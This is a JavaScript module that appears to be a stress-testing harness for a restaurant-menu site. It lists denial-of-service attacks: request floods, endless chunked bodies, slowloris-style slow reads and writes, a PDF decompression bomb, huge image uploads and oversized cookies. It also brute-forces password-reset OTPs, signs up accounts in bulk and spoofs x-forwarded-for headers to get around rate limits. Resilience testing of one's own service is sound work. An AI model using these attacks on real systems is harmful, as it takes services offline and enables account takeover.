import { randomBytes } from 'node:crypto'
import { connect } from 'node:net'
import sharp from 'sharp'
import { busily, clientAt, made } from './client.mjs'
import { storedCarta } from './owner.mjs'
import { pdfBomb } from './pdfs.mjs'

/** @typedef {import('./client.mjs').Site} Site */
/** @typedef {Awaited<ReturnType<typeof import('./owner.mjs').attackingOwner>>} Owner */
/** @typedef {{ site: Site, address: string, owner: Owner, goesOn: () => boolean }} At */

const madrid = 'lat=40.4168&lon=-3.7038'

/** @param {Buffer} bytes @param {string} name */
function form(bytes, name) {
  const body = new FormData()
  body.append('file', new Blob([new Uint8Array(bytes)]), name)
  return body
}

const photo = () =>
  sharp({
    create: {
      width: 8000,
      height: 6000,
      channels: 3,
      background: '#c8102e',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .jpeg({ quality: 40 })
    .toBuffer()

/** A request body without an end. */
const endless = `10000\r\n${'x'.repeat(65_536)}\r\n`.repeat(64)
const kept = ['/', '/faqs', '/menu-del-dia/madrid', '/restaurant/search/menu', '/sitemaps/1.xml']

/** The attacks of one client. Each runs as long as it is allowed to. @type {Record<string, (at: At) => Promise<unknown>>} */
export const attacks = {
  'treinta copias de los datos a la vez': ({ site: { api }, owner: { ask }, goesOn }) =>
    busily(30, goesOn, () => ask('GET', `${api}/api/account/data`)),
  'sesenta días de menús largos': ({ site: { api }, owner: { ask, day }, goesOn }) =>
    busily(16, goesOn, () => ask('GET', `${api}/api/menus/mine?from=${day(0)}&to=${day(60)}`)),
  'POST y OPTIONS a páginas guardadas': ({ site: { web }, address, goesOn }) =>
    busily(32, goesOn, (n) => clientAt(address)(n % 2 ? 'POST' : 'OPTIONS', web + kept[n % kept.length])),
  'cuerpos a trozos sin fin': ({ site: { web }, address, goesOn }) => {
    const head = ['content-type: application/json', `origin: ${web}`, 'transfer-encoding: chunked']
    return rawly(web, 32, goesOn, () => request(web, address, 'POST', '/api/contact', head) + endless)
  },
  '32 conexiones con 60 peticiones seguidas': ({ site: { web }, address, goesOn }) =>
    rawly(web, 32, goesOn, (n) =>
      Array.from({ length: 60 }, (_, m) =>
        request(web, address, 'GET', `/restaurant/search/menu?q=fila${n}x${m}`),
      ).join(''),
    ),
  '280 conexiones con 15 peticiones seguidas': ({ site: { web }, address, goesOn }) =>
    rawly(web, 280, goesOn, (n) =>
      Array.from({ length: 15 }, (_, m) =>
        request(web, address, 'GET', `/restaurant/search/menu?q=cola${n}x${m}`),
      ).join(''),
    ),
  'menús dibujados de palabras sin fin': ({ site: { api }, owner: { ask, menuIds }, goesOn }) =>
    busily(8, goesOn, (n) => {
      const body = { menuId: menuIds[n % menuIds.length], templateId: 'p1antp1zar05' }
      return ask('POST', `${api}/api/sheets/${['feed', 'story', 'tv', 'a4'][n % 4]}`, body)
    }),
  'fotos de 48 megapíxeles': async ({ site: { api }, owner: { ask }, goesOn }) => {
    const bytes = await photo()
    await busily(6, goesOn, () => ask('POST', `${api}/api/aws/uploadToAws`, form(bytes, 'foto.jpg')))
  },
  'PDF que se despliegan a 900 MB': async ({ site: { api }, owner: { ask }, goesOn }) => {
    const bytes = await pdfBomb()
    await busily(4, goesOn, () => ask('POST', `${api}/api/aws/uploadToAws`, form(bytes, 'carta.pdf')))
  },
  'contraseñas olvidadas': ({ site: { api }, address, owner: { email }, goesOn }) =>
    busily(16, goesOn, (n) => {
      const otp = String(n % 1_000_000).padStart(6, '0')
      const reset = { email, otp, newPassword: 'otra contraseña larga' }
      const [path, body] = n % 2 ? ['forget-password', { email }] : ['reset-password', reset]
      return clientAt(address)('POST', `${api}/api/auth/${path}`, body)
    }),
  'direcciones siempre distintas': ({ site: { web }, address, goesOn }) =>
    busily(32, goesOn, (n) =>
      clientAt(address)('GET', `${web}/restaurant/profile/a${String(n).padStart(11, '0')}_x?u=${n}`),
    ),
  'búsquedas siempre distintas': ({ site: { web }, address, goesOn }) =>
    busily(32, goesOn, (n) =>
      clientAt(address)('GET', `${web}/restaurant/search/menu?${madrid}&q=ataque${n}&km=20&price=asc`),
    ),
  'ficheros que no existen': ({ site: { web }, address, goesOn }) =>
    busily(96, goesOn, (n) => clientAt(address)('GET', `${web}/${n % 2 ? 'files' : 'fonts'}/zz${n}`)),
  'preguntas por la sesión': ({ site: { web }, address, goesOn }) =>
    busily(96, goesOn, () => clientAt(address)('GET', `${web}/api/session`)),
  'una carta leída despacio': async ({ site, address, owner: { ask }, goesOn }) => {
    const path = await storedCarta(site, ask)
    let n = 0
    await slowly(site.web, 400, goesOn, () => request(site.web, address, 'GET', `${path}?n=${n++}`))
  },
  'doce cuentas en una dirección': async ({ site: { web }, address, goesOn }) => {
    const cookies = await Promise.all(Array.from({ length: 12 }, () => signedUp(web, address)))
    await busily(48, goesOn, (n) =>
      clientAt(address, { cookie: cookies[n % 12] ?? '' })(
        'GET',
        `${web}/restaurant/search/menu?${madrid}&q=cuenta${n}&km=20`,
      ),
    )
  },
  'galletas inventadas': ({ site: { web }, address, goesOn }) =>
    busily(64, goesOn, (n) =>
      clientAt(address, { cookie: `mantel=${String(n).padEnd(15_000, 'x')}` })('GET', `${web}/fonts/zz${n}`),
    ),
  'cuerpos lentos y búsquedas': async ({ site: { web }, address, goesOn }) => {
    const head = ['content-type: application/json', `origin: ${web}`, 'content-length: 100000']
    await Promise.all([
      rawly(web, 8, goesOn, () => request(web, address, 'POST', '/api/contact', head)),
      busily(32, goesOn, (n) =>
        clientAt(address)('GET', `${web}/restaurant/search/menu?${madrid}&q=lento${n}&km=20`),
      ),
    ])
  },
  'búsquedas, ficheros y sesiones': ({ site: { web }, address, goesOn }) =>
    busily(96, goesOn, (n) => {
      const paths = [`/restaurant/search/menu?${madrid}&q=todo${n}`, `/fonts/zz${n}`, '/api/session']
      return clientAt(address)('GET', web + paths[n % 3])
    }),
  'la portada sin pausa': ({ site: { web }, address, goesOn }) =>
    busily(256, goesOn, () => clientAt(address)('GET', `${web}/faqs`)),
  'la api sin pausa': ({ site: { api }, address, goesOn }) =>
    busily(128, goesOn, (n) =>
      clientAt(address)('GET', api + (['/readyz', '/openapi.json', '/files/zz', '/api/zz'][n % 4] ?? '')),
    ),
  'respuestas que nadie espera': ({ site: { api }, owner: { authorization, day }, address, goesOn }) =>
    rawly(
      api,
      16,
      goesOn,
      () =>
        request(api, address, 'GET', `/api/menus/mine?from=${day(0)}&to=${day(60)}`, [
          `authorization: ${authorization}`,
        ]),
      30,
    ),
  'avisos con cuerpos que no acaban': ({ site: { api }, address, goesOn }) => {
    const length = 3 * 1024 * 1024
    const body = 'x'.repeat(length - 1)
    return rawly(
      api,
      128,
      goesOn,
      () => request(api, address, 'POST', '/api/whatsapp/webhook', [`content-length: ${length}`]) + body,
    )
  },
  'búsquedas en la api': ({ site: { api }, address, goesOn }) =>
    busily(32, goesOn, (n) => {
      const body = { lat: 40.4168, lon: -3.7038, pageSize: 100, query: `entrecotte macarones gaspacho ${n}` }
      return clientAt(address)('POST', `${api}/api/filter/`, body)
    }),
}

/**
 * Connections that write the given bytes and read the answers. A closed connection is opened again.
 * @param {string} url
 * @param {number} connections
 * @param {() => boolean} goesOn
 * @param {(n: number) => string} bytesOf
 * @param {number} [hangUpMs] without waiting for an answer
 */
async function rawly(url, connections, goesOn, bytesOf, hangUpMs = 0) {
  const { hostname, port } = new URL(url)
  let n = 0
  const once = () =>
    new Promise((resolve) => {
      made.requests += 1
      const socket = connect({ port: Number(port), host: hostname }, () => socket.write(bytesOf(n++)))
      socket.setTimeout(1000, () => socket.destroy())
      if (hangUpMs > 0) setTimeout(() => socket.destroy(), hangUpMs)
      socket.on('data', () => goesOn() || socket.destroy())
      socket.on('error', () => undefined)
      socket.on('close', resolve)
    })
  const one = async () => {
    while (goesOn()) await once()
  }
  await Promise.all(Array.from({ length: connections }, one))
}

/**
 * Connections that ask and read some kilobytes of the answer each second.
 * @param {string} url
 * @param {number} connections
 * @param {() => boolean} goesOn
 * @param {() => string} asked
 */
async function slowly(url, connections, goesOn, asked) {
  const { hostname, port } = new URL(url)
  const once = () =>
    new Promise((resolve) => {
      made.requests += 1
      const socket = connect({ port: Number(port), host: hostname }, () => socket.write(asked()))
      const timer = setInterval(() => (goesOn() ? socket.resume() : socket.destroy()), 1000)
      socket.on('data', () => socket.pause())
      socket.on('end', () => socket.destroy())
      socket.on('error', () => undefined)
      socket.on('close', () => resolve(clearInterval(timer)))
    })
  const one = async () => {
    while (goesOn()) await once()
  }
  await Promise.all(Array.from({ length: connections }, one))
}

/** The cookie of somebody who has just signed up. @param {string} web @param {string} address */
async function signedUp(web, address) {
  const email = `cuenta.${randomBytes(6).toString('hex')}@example.com`
  const registration = {
    firstName: 'Ana',
    lastName: 'Ataque',
    email,
    password: 'una contraseña larga de verdad',
  }
  const answer = await clientAt(address, { origin: web })('POST', `${web}/api/auth/register`, registration)
  const [cookie] = answer?.headers.getSetCookie() ?? []
  if (!answer?.ok || !cookie) throw new Error(`Nobody could sign up: ${answer?.status}`)
  return cookie.split(';', 1)[0] ?? ''
}

/** @param {string} url @param {string} address @param {string} method @param {string} path @param {string[]} [more] */
function request(url, address, method, path, more = []) {
  const { host } = new URL(url)
  return [`${method} ${path} HTTP/1.1`, `host: ${host}`, `x-forwarded-for: ${address}`, ...more, '', ''].join(
    '\r\n',
  )
}
